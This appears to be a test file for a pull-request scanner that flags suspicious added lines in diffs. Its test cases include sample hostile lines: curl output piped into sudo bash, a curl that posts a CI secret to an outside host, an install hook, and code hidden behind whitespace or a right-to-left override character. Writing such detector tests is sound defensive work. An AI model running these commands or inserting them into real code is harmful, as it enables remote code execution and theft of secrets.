"""What patterns on added lines find, and that they stay linear."""

import time

import pytest

from sentinel.content import Content, read_content
from sentinel.paths import path_facts
from sentinel.pull_request import ChangedFile


def content_of(*lines: str, path: str = "src/quay.py", removed: str = "") -> Content:
    """Read one file with these added lines."""
    patch = "@@ -1 +1 @@\n" + "".join(f"+{line}\n" for line in lines) + (f"-{removed}" if removed else "")
    found = read_content([ChangedFile(path, patch=patch)], [path_facts(path)])
    assert found is not None
    return found


@pytest.mark.parametrize(("field", "line"), [
    ("pipes_to_shell", "curl -sSf https://pier.example-host.io/run | sudo bash"),
    ("pipes_to_shell", 'bash -c "$(curl -fsSL https://pier.example-host.io/run)"'),
    ("processes", "subprocess.run(['ls'])"),
    ("processes", 'exec.Command("/bin/sh", "-c", moor)'),
    ("evaluations", "return eval(order)"),
    ("decodings", "Buffer.from(tide, 'base64')"),
    ("decodings", "echo $TIDE | base64 -d"),
    ("self_starting", '"postinstall": "node tide.js"'),
    ("secrets_sent", "curl -d ${{ secrets.PIER_KEY }} https://pier.example-host.io"),
    ("weakened_checks", "requests.get(url, verify=False)"),
    ("hidden_characters", "berth = 'a\u202eb'"),
    ("lines_out_of_sight", "berth = 1;" + " " * 120 + "moor()"),
    ("lines_out_of_sight", "berth = 1;" + "\t" * 30 + "moor()"),
    ("numbered_hosts", "url = 'http://93.184.216.34/x'"),
])
def test_a_pattern_is_found_in_added_lines(field: str, line: str) -> None:
    assert 1 == getattr(content_of(line), field)
    assert 0 == getattr(content_of("berth = 1", removed=line), field)


def test_ordinary_lines_show_nothing() -> None:
    found = content_of("def moor(boat):", "    return evaluate_tide(boat.system)", "    # see https://localhost/x")

    assert 0 == content_of("berth = 1" + " " * 120, " " * 40 + "moor()").lines_out_of_sight
    assert 0 == found.pipes_to_shell + found.processes + found.evaluations + found.secrets_sent + len(found.hosts)


def test_hosts_in_documentation_do_not_count() -> None:
    assert frozenset() == content_of("see https://pier.example-host.io", path="docs/pier.md").hosts
    assert {"pier.example-host.io"} == content_of("see https://pier.example-host.io").hosts


def test_dependencies_are_read_from_manifests_only() -> None:
    assert {"left-pad"} == content_of('"left-pad": "^1.0.0",', path="package.json").dependencies
    assert {"requests"} == content_of("requests==2.31", path="requirements.txt").dependencies
    assert frozenset() == content_of('"left-pad": "^1.0.0",', path="src/a.js").dependencies


def test_sources_of_packages_are_read_from_lock_files_too() -> None:
    line = '"resolved": "https://quay.example-host.io/left-pad/-/left-pad-1.0.0.tgz",'

    assert {"quay.example-host.io"} == content_of(line, path="package-lock.json").sources
    assert frozenset() == content_of(line, path="package-lock.json").hosts
    assert frozenset() == content_of(line, path="src/a.json").sources


def test_long_encoded_strings_count_and_hashes_do_not() -> None:
    encoded = content_of('tide = "aHR0cHM6Ly9waWVyLmV4YW1wbGUvYm9hdHMvYW5kL3RpZGVzL2FuZC9xdWF5cw=="')

    assert encoded.longest_encoded > 40
    assert 0 == content_of(f'sha = "{"0123456789abcdef" * 4}"').longest_encoded


def test_no_patch_is_absent() -> None:
    assert read_content([ChangedFile("a.py")], [path_facts("a.py")]) is None


@pytest.mark.parametrize("piece", [
    "curl ", "eval", "a.", "\"", "https://", "\\x41", "secrets.", "[]{}", "a-b/c:", "sh -c ",
    " ", "\t", "git+", "registry = ", "1.", "://a.b/", "resolved https://",
])
def test_hostile_repetition_takes_linear_time(piece: str) -> None:
    short, long = (min(seconds_of(piece, n_characters) for _ in range(5)) for n_characters in (4_000, 32_000))

    assert long < 24 * short  # eight times the text; what is quadratic takes 64 times as long


def seconds_of(piece: str, n_characters: int) -> float:
    """Return the processor time of reading so much of one repetition."""
    text = piece * (n_characters // len(piece))
    files = [ChangedFile(path, patch=f"+{text}\n+{text}") for path in ("a.sh", "package.json")]
    facts = [path_facts(file.path) for file in files]
    started = time.thread_time()
    read_content(files, facts)
    return time.thread_time() - started
